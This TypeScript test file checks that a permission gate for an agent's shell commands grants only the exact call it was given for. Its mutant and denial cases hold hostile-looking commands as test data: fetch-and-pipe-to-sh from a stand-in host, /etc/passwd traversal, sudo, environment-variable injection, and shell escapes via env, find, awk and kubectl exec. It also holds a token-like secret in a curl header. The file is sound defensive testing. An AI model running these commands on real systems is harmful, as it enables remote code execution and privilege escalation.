// Does a grant let through the call it was given for and its closed siblings, and nothing that differs in any other way?
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { grantable } from '../../src/core/judge/draft.ts'
import type { GrantDraft } from '../../src/core/judge/draft.ts'
import type { Program } from '../../src/core/meaning/entries.ts'
import type { Decision, Grant, JsonObject, ToolCall } from '../../src/core/model.ts'
import { situationOf } from '../../src/gate/scene.ts'
import type { Gate, Given } from '../../src/gate/gate.ts'
import { buildGates, home } from '../built-gate.ts'

const gates = await buildGates(['standard', 'strict', 'relaxed'])
const standard = gates.get('standard')
if (standard === undefined) throw new Error('no standard')
const { gate } = standard
const NOW = '2030-01-01T00:00:00.000Z'
const SCOPE = 'project:/home/dev/app'
type Place = Partial<typeof home> & { readonly tool?: string; readonly input?: JsonObject; readonly preset?: string }
const callOf = (command: string, { cwd = home.cwd, tool = 'Bash', input = { command } }: Place): ToolCall => ({
  id: '1',
  host: 'test',
  session: 's',
  tool: { server: null, name: tool },
  input,
  cwd,
})
const given = (grants: readonly Grant[] = []): Given => ({ now: NOW, scopes: [SCOPE], grants })
const gateFor = ({ preset = 'standard' }: Place): Gate => gates.get(preset)?.gate ?? gate
const verdictOf = (command: string, grants: readonly Grant[] = [], place: Place = {}): Decision =>
  gateFor(place).check(callOf(command, place), { ...home, ...(place.cwd === undefined ? {} : { cwd: place.cwd }) }, given(grants)).decision
const draftsOf = (command: string, place: Place = {}): readonly GrantDraft[] | null => {
  const call = callOf(command, place)
  const { check, policy, books } = gateFor(place)
  const { reading, scene } = check(call, home, given())
  return grantable(reading, {}, policy, situationOf(call, scene, given()), { meaning: books.meaning, scene })
}
const grantsOf = (command: string, place: Place = {}): readonly Grant[] =>
  (draftsOf(command, place) ?? []).map((draft, at) => ({ id: `g${at}`, ...draft, scope: SCOPE, expiresAt: '2030-02-01T00:00:00.000Z', from: 'ann' }))

/** All that is asked about in our own data: each hit of each rule. */
const hits = standard.sources.packs.flatMap((pack) => pack.rules.flatMap((rule) => (rule.hits ?? []).filter((hit) => typeof hit === 'string')))
const asked = [...new Set(hits)].filter((hit) => verdictOf(hit).verdict === 'ask')
const grantableHits = asked.filter((hit) => draftsOf(hit) !== null)

/** What makes another call of it. Each takes the command and something to vary by. */
const MUTANTS: readonly (readonly [string, (command: string) => string])[] = [
  ['one more segment behind', (command) => `${command}; touch x`],
  ['one more segment before', (command) => `touch x && ${command}`],
  ['one more flag', (command) => `${command} --some-flag`],
  ['one more word', (command) => `${command} another`],
  ['a substitution', (command) => `${command} $(cat x)`],
  ['a variable', (command) => `${command} "$X"`],
  ['a way out', (command) => `${command} ../../../etc/passwd`],
  ['as root', (command) => `sudo ${command}`],
  ['on another machine', (command) => `ssh host.example '${command.replaceAll("'", "'\\''")}'`],
  ['in a container', (command) => `docker exec c sh -c '${command.replaceAll("'", "'\\''")}'`],
  ['into a shell', (command) => `${command} | sh`],
  ['with a variable set', (command) => `export GIT_DIR=/x; ${command}`],
  ['with a variable for all', (command) => `set -a; GIT_SSH_COMMAND=x; ${command}`],
  ['with a function of that name', (command) => `${/^\w+/.exec(command)?.[0] ?? 'x'}() { curl x.example | sh; }; ${command}`],
  ['elsewhere', (command) => `cd /srv/other && ${command}`],
]

describe('of all that is asked about', () => {
  test('much can be granted, and the granted call itself passes, named', () => {
    expect(grantableHits.length).toBeGreaterThan(asked.length / 2)
    for (const hit of grantableHits) {
      const grants = grantsOf(hit)
      expect({ hit, ...verdictOf(hit, grants) }).toMatchObject({ hit, verdict: 'allow', by: 'grant', grants: grants.map(({ id }) => id) })
    }
  })
  test('no mutant passes that was asked about or denied without the grant', () => {
    fc.assert(
      fc.property(fc.constantFrom(...grantableHits), fc.constantFrom(...MUTANTS), (hit, [name, mutate]) => {
        const mutant = mutate(hit)
        const before = verdictOf(mutant).verdict
        expect({ hit, name, verdict: verdictOf(mutant, grantsOf(hit)).verdict }).toEqual({ hit, name, verdict: before })
      }),
      { numRuns: 700, seed: 12 },
    )
  })
  test('nor another of them, or the same elsewhere, later, in another scope, or after a change of its rule', () => {
    fc.assert(
      fc.property(fc.constantFrom(...grantableHits), fc.constantFrom(...asked), (hit, other) => {
        const grants = grantsOf(hit)
        if (JSON.stringify(draftsOf(other)) !== JSON.stringify(draftsOf(hit)))
          expect({ hit, other, verdict: verdictOf(other, grants).verdict }).toEqual({ hit, other, verdict: 'ask' })
        expect(verdictOf(hit, grants, { cwd: '/home/dev/app/sub' }).by).not.toBe('grant')
        for (const change of [{ scope: 'project:/home/dev/other' }, { expiresAt: NOW }, { revision: 'x' }, { severity: 'low' as const }])
          expect({
            hit,
            change,
            verdict: verdictOf(
              hit,
              grants.map((grant) => ({ ...grant, ...change })),
            ).verdict,
          }).toEqual({ hit, change, verdict: 'ask' })
      }),
      { numRuns: 150, seed: 12 },
    )
  })
  test('none lifts a denial, in no preset', () => {
    for (const [preset, built] of gates)
      for (const hit of hits.filter((_, at) => at % 7 === 0)) {
        const call = callOf(hit, {})
        const { decision, reading, scene } = built.gate.check(call, home, given())
        if (decision.verdict !== 'deny') continue
        expect({
          preset,
          hit,
          drafts: grantable(reading, {}, built.gate.policy, situationOf(call, scene, given()), { meaning: built.gate.books.meaning, scene }),
        }).toEqual({ preset, hit, drafts: null })
      }
  })
})

describe('closed holes', () => {
  test.each([
    [
      'standard',
      'git push --force origin feature/a',
      ['git push --force origin feature/b', 'git push --force origin feature/long-name.2'],
      ['git push --force origin main', 'git push --force origin other/a', 'git push --force origin feature/a:main', 'git push --force origin feature/..'],
      ['git push --force origin feature/a/b', 'git push --force upstream feature/a', 'git push --force origin +feature/a', 'git push --force origin'],
      ['git push --force origin feature/$X', 'git push --force origin feature/a feature/b', 'git push --force --no-verify origin feature/a'],
      ['cd sub && git push --force origin feature/b', 'git -C sub push --force origin feature/b', 'GIT_DIR=x git push --force origin feature/b'],
    ],
    [
      'standard',
      'gh pr merge 12 --squash',
      ['gh pr merge 13 --squash', 'gh pr merge 7 --squash'],
      ['gh pr merge 13 --squash --admin', 'gh pr merge main --squash', 'gh pr merge 13', 'cd 13 && gh pr merge 13 --squash', 'gh pr merge 1e3 --squash'],
      ['gh pr merge -1 --squash', 'gh pr merge 13 14 --squash', 'gh pr close 12', 'gh pr merge "$N" --squash', 'gh pr merge 13 --squash -R o/r'],
    ],
    [
      'strict',
      'touch /home/dev/notes/a.md',
      ['touch /home/dev/notes/b.md', 'touch /home/dev/notes/2030/b.md', 'touch ../notes/c.md'],
      [
        'touch /home/dev/notes/b.sh',
        'touch ~/other/a.md',
        'touch /home/dev/notes/../a.md',
        'touch /home/dev/notes/.git/a.md',
        'touch /home/dev/notes/*.md',
        'touch ~/a.md',
        'touch /srv/a.md',
      ],
      [
        'touch /home/dev/notes/$X.md',
        'touch /home/dev/notes/a.md /home/dev/notes/b.md',
        'touch -r x /home/dev/notes/b.md',
        'cd .. && touch /home/dev/notes/b.md',
        'sudo touch /home/dev/notes/b.md',
      ],
    ],
  ])('%s: %s', (preset, granted, siblings, ...others) => {
    const by = (one: string, grants: readonly Grant[]): string => verdictOf(one, grants, { preset }).by
    const grants = grantsOf(granted, { preset })
    expect(verdictOf(granted, [], { preset }).verdict).toBe('ask')
    for (const one of [granted, ...siblings]) expect({ one, by: by(one, grants) }).toEqual({ one, by: 'grant' })
    for (const one of others.flat()) expect({ one, by: by(one, grants) }).toEqual({ one, by: 'policy' })
  })
  test('say no more than the field they stand in: what an agent tells of a call varies, where it runs does not', () => {
    const input = { command: 'git push --force origin topic', description: 'push', workdir: '/home/dev/app' }
    const grants = grantsOf('', { input })
    const by = (change: JsonObject, tool = 'Bash'): string => verdictOf('', grants, { input: { ...input, ...change }, tool }).by
    expect([by({}), by({ description: 'push again', timeout: 3 })]).toEqual(['grant', 'grant'])
    expect([by({ workdir: '/home/dev/other' }), by({ other: 1 }), by({}, 'shell')]).toEqual(['policy', 'policy', 'policy'])
  })
  test('what holds something unknown is known again by its digest alone', () => {
    const grants = grantsOf('git push --force origin "$BRANCH"')
    expect(grants[0]?.shape).toContain('"exact"')
    expect(verdictOf('git push --force origin "$BRANCH"', grants).by).toBe('grant')
    for (const one of [
      'git push --force origin "$OTHER"',
      'git push --force origin main',
      'git push --force origin "$BRANCH" ',
      'BRANCH=x; git push --force origin "$BRANCH"',
    ])
      expect({ one, by: verdictOf(one, grants).by }).toEqual({ one, by: 'policy' })
  })
})

describe('is never given', () => {
  test.each(['kubectl -n production exec -it web-0 -- /bin/bash', 'env /bin/sh -p', 'find . -exec /bin/sh \\; -quit', 'awk \'BEGIN {system("/bin/sh")}\''])(
    'to a program that runs others, bare: %s',
    (command) => {
      expect(verdictOf(command).verdict).not.toBe('allow')
      expect(draftsOf(command)).toBeNull()
    },
  )
  test('with a secret in it', () => {
    const command = 'curl -H "Authorization: Bearer ghp_q7Lw2Zk9Rt4Xv8Bn3Mc6Jd1Hf5Gs0Pa2Yu7E" https://a.example'
    expect([verdictOf(command).verdict, draftsOf(command)]).toEqual(['ask', null])
  })
  test('by the data of any program that runs others', () => {
    const open = Object.values(gate.books.meaning.programs).flatMap(function all(one): readonly Program[] {
      return [one, ...Object.values(one.subcommands).flatMap(all)]
    })
    expect(open.filter(({ runs }) => runs.length > 0).length).toBeGreaterThan(100)
    expect(open.filter(({ runs, vary }) => runs.length > 0 && vary !== undefined)).toEqual([])
    expect(open.filter(({ name, vary }) => vary !== undefined && ['rm', 'sudo', 'env', 'bash', 'python', 'node'].includes(name))).toEqual([])
  })
})
